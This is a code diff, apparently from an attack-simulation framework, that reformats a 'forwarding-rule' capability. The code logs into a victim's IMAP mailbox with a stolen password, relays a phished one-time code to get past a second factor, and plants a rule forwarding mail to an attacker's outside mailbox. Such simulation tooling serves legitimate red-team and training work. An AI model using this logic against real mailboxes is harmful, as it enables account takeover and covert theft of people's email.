@@ -11,7 +11,10 @@ const spec = capabilitySpec('forwarding-rule', {
     properties: {
       account: { ...ADDRESS, description: 'The world user whose password is stolen.' },
       forwardTo: { ...ADDRESS, description: "The attacker's address; its domain gets an outside MX that collects what is forwarded." },
-      secondFactor: { enum: ['none', 'phished'], description: 'phished: the attacker relays the one-time code the victim types on a phishing page, so a mailbox second factor does not stop the rule.' },
+      secondFactor: {
+        enum: ['none', 'phished'],
+        description: 'phished: the attacker relays the one-time code the victim types on a phishing page, so a mailbox second factor does not stop the rule.',
+      },
     },
   },
 });
@@ -24,7 +27,16 @@ export const forwardingRule = capability(spec, {
     const victim = cell.user(p.account);
     // The code the victim's phone shows now: Dovecot checks it against real time, not the world clock.
     const code = p.secondFactor === 'phished' ? victim.totpCode(new Date()) : undefined;
-    const o = await plantForwardingRule({ kind: 'stolen-password', imap: { host: victim.org.mailbox.host, port: victim.org.mailbox.imapPort }, user: victim.address, password: code ? `${victim.password}:${code}` : victim.password, rules: victim.org.mailbox }, { forwardTo: p.forwardTo });
+    const o = await plantForwardingRule(
+      {
+        kind: 'stolen-password',
+        imap: { host: victim.org.mailbox.host, port: victim.org.mailbox.imapPort },
+        user: victim.address,
+        password: code ? `${victim.password}:${code}` : victim.password,
+        rules: victim.org.mailbox,
+      },
+      { forwardTo: p.forwardTo },
+    );
     cell.outcomes.push(o);
     if (o.error) return;
     // The attacker's own outside mailbox receives whatever the rule forwards.
